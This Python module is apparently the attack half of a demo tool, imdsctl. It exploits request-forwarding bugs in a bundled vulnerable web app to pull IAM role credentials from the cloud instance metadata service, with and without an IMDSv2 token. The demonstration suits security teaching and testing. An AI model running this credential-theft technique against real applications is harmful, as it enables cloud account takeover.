"""What a visitor of the vulnerable application does with its bug: the attacks of `imdsctl demo --attack`.

    python -m imdsctl.adapters.attacker ATTACK

starts the application, attacks it, and prints one JSON object: `requests` (what was asked of the metadata service
through the application, and what came back) and `credentials`, None when none were had.
"""

from __future__ import annotations

import http.client
import json
import os
import subprocess
import sys
import urllib.parse
from collections.abc import Callable, Mapping
from typing import Any

from imdsctl.domain.metadata_endpoint import SERVICE_IPV4
from imdsctl.domain.run_environment import ENDPOINT

ATTACKS = ("preview", "forward", "webhook")
CREDENTIALS = "/latest/meta-data/iam/security-credentials/"
ENDED_SECONDS_MAX = 10.0

Ask = Callable[..., "tuple[int, str]"]


def steal(ask: Ask, *, with_token: bool) -> Mapping[str, Any] | None:
    """The credentials of the instance's role; None when the metadata service gives none.

    `ask(path, method, headers)` passes a request through the application's bug.
    """
    headers = {}
    if with_token:
        status, token = ask("/latest/api/token", "PUT", {"X-aws-ec2-metadata-token-ttl-seconds": "60"})
        if status != 200:
            return None
        headers = {"X-aws-ec2-metadata-token": token}
    status, role = ask(CREDENTIALS, "GET", headers)
    if status != 200:
        return None
    status, document = ask(CREDENTIALS + role.strip(), "GET", headers)
    if status != 200:
        return None
    found = json.loads(document)
    return found if found.get("Code") == "Success" else None


def main(arguments: list[str]) -> int:
    """Carry out one attack; see the module's first lines."""
    [attack] = arguments
    if attack not in ATTACKS:
        raise SystemExit(f"one of {', '.join(ATTACKS)}")
    application = subprocess.Popen(
        [sys.executable, "-m", "imdsctl.adapters.vulnerable_app"], stdout=subprocess.PIPE, text=True
    )
    try:
        assert application.stdout is not None
        port = int(application.stdout.readline())
        requests: list[dict[str, Any]] = []
        credentials = steal(_asker(port, attack, requests), with_token=attack != "preview")
    finally:
        application.terminate()
        application.wait(ENDED_SECONDS_MAX)
    print(json.dumps({"attack": attack, "requests": requests, "credentials": credentials}))
    return 0


def _asker(port: int, attack: str, requests: list[dict[str, Any]]) -> Ask:
    endpoint = os.environ.get(ENDPOINT) or f"http://{SERVICE_IPV4}"

    def ask(path: str, method: str, headers: Mapping[str, str]) -> tuple[int, str]:
        query: list[tuple[str, str]] = [("url", endpoint.rstrip("/") + path)]
        if attack != "preview":
            query += [("method", method), *(("header", f"{name}: {value}") for name, value in headers.items())]
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=ENDED_SECONDS_MAX)
        connection.request("GET", f"/{attack}?{urllib.parse.urlencode(query)}")
        answer = connection.getresponse()
        body = answer.read().decode(errors="replace")
        connection.close()
        requests.append({"method": method, "path": path, "status": answer.status})
        return answer.status, body

    return ask


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
